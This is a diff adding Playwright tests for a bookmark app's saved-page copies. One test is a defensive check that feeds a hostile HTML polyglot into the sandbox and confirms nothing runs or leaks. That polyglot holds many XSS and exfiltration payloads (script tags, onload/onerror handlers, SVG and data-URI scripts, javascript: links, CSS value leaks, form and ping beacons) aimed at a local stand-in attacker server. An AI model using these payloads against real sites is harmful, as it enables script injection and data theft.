@@ -1,0 +1,104 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expectAccessible } from '../fixtures/expect-accessible';
+import { siteUrl } from '../fixtures/sites';
+import { expect, test } from '../fixtures/test';
+
+test.beforeEach(async ({ useFreshAccount }) => {
+  await useFreshAccount();
+});
+
+const sentence = 'Sleeper trains are coming back, slowly and a little late, as sleeper trains do. ';
+
+test('a page is copied, read without the page, and its space is freed', async ({ page, api }) => {
+  const url = siteUrl('/copied', { title: 'Night trains', article: sentence.repeat(12) });
+  const { uuid } = await api.call('bookmarks.create', { body: { url, title: 'Trains' } });
+  await page.goto(`/?preview=${uuid}`);
+  const panel = page.getByRole('region', { name: 'Trains', exact: true });
+  await panel.getByRole('button', { name: 'Save a copy now' }).click();
+  await expect(panel.getByText('First version')).toBeVisible();
+  await expectAccessible(page);
+  await panel.getByRole('button', { name: /^Open the copy of/ }).click();
+  const frame = page.getByRole('dialog').frameLocator('iframe');
+  await expect(frame.getByText('Sleeper trains are coming back').first()).toBeVisible();
+  await page.keyboard.press('Escape');
+  await panel.getByRole('button', { name: /^Actions for the copy/ }).click();
+  await page.getByRole('menuitem', { name: /Use its title/ }).click();
+  await expect(page.getByRole('link', { name: 'Night trains', exact: true })).toBeVisible();
+
+  await page.goto('/settings/data');
+  await page.getByRole('checkbox', { name: 'Select Night trains' }).check();
+  await page.getByRole('button', { name: 'Delete copies of 1 page' }).click();
+  await page.getByRole('dialog').getByRole('button', { name: 'Delete copies of 1 page' }).click();
+  await expect(page.getByText('No page is copied yet.')).toBeVisible();
+});
+
+/** Every way in which a page could run something, or send something to `attacker`. */
+const attacks = (attacker: string): string => `GIF89a/*--><!doctype html><html><head><title>Attack</title>
+  <base href="${attacker}/base/"><meta http-equiv="refresh" content="0;url=${attacker}/refresh">
+  <link rel="stylesheet" href="${attacker}/sheet.css"><link rel="preload" as="image" href="${attacker}/preload">
+  <link rel="prefetch" href="${attacker}/prefetch"><link rel="icon" href="${attacker}/icon.png">
+  <style>@import url(${attacker}/import.css); @font-face { font-family: x; src: url(${attacker}/font) }
+    body { font-family: x; background: url(${attacker}/background) } input[value^="s"] { background: url(${attacker}/leak-s) }</style>
+  <script>fetch('${attacker}/script'); top.pwned = true</script><script src="${attacker}/script.js"></script></head>
+  <body onload="top.pwned = true"><p>Copied text</p><input value="secret">
+  <img src="${attacker}/image" onerror="top.pwned = true"><img srcset="${attacker}/srcset 2x"><img src="relative.png">
+  <svg><script>top.pwned = true</script><image href="${attacker}/svg-image" /><a href="javascript:top.pwned=true"><text y="20">svg</text></a></svg>
+  <svg><use href="data:image/svg+xml,&lt;svg id='x' onload='top.pwned=true'/&gt;#x"/></svg>
+  <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=true'%3E%3Cscript%3Etop.pwned=true%3C/script%3E%3C/svg%3E">
+  <iframe src="${attacker}/frame"></iframe><iframe srcdoc="<script>top.pwned=true</script>"></iframe>
+  <object data="${attacker}/object"></object><embed src="${attacker}/embed"><video src="${attacker}/video" autoplay></video>
+  <form id="f" action="${attacker}/form" method="post"><button>Send</button></form>
+  <a id="top" href="${attacker}/top" target="_top">Top</a><a href="${attacker}/ping" ping="${attacker}/ping">Ping</a>
+  <math><maction actiontype="statusline" xlink:href="javascript:top.pwned=true">m</maction></math></body></html>`;
+
+// Guarantee: nothing in a saved copy runs, sends anything or leaves its frame.
+test('a hostile copy shows its text and does nothing else', async ({ page, api, baseURL, allowConsole }) => {
+  const received: string[] = [];
+  const server = http.createServer((request, response) => {
+    received.push(request.url ?? '');
+    response.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  try {
+    // What the policy forbids is reported in the console.
+    allowConsole(/./);
+    const url = siteUrl('/hostile');
+    const { uuid } = await api.call('bookmarks.create', { body: { url, title: 'Hostile' } });
+    const file = { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(attacks(attacker)) };
+    const origin = baseURL ?? '';
+    const sent = await page.request.post(`/v1/bookmarks/${uuid}/copies`, {
+      multipart: { file, url },
+      headers: { origin },
+    });
+    expect(sent.status()).toBe(201);
+    const { uuid: copy } = (await sent.json()) as { uuid: string };
+    const path = `/v1/bookmarks/${uuid}/copies/${copy}/file`;
+
+    await page.goto('/settings/data');
+    await page.evaluate((src) => {
+      const frame = document.createElement('iframe');
+      frame.sandbox.value = '';
+      frame.src = src;
+      document.body.append(frame);
+    }, path);
+    const frame = page.frameLocator(`iframe[src="${path}"]`);
+    await expect(frame.getByText('Copied text')).toBeAttached();
+    await frame.getByRole('button', { name: 'Send' }).dispatchEvent('click');
+    await frame.getByRole('link', { name: 'Top' }).dispatchEvent('click');
+    await expect(frame.getByText('Copied text')).toBeAttached();
+    expect(new URL(page.url()).pathname).toBe('/settings/data');
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+
+    // Alone, without a frame, its own policy is the same.
+    const response = await page.goto(path);
+    expect(response?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none';/);
+    await expect(page.getByText('Copied text')).toBeVisible();
+    await page.getByRole('button', { name: 'Send' }).click();
+    expect(new URL(page.url()).pathname).toBe(path);
+    expect(received).toEqual([]);
+  } finally {
+    server.close();
+  }
+});
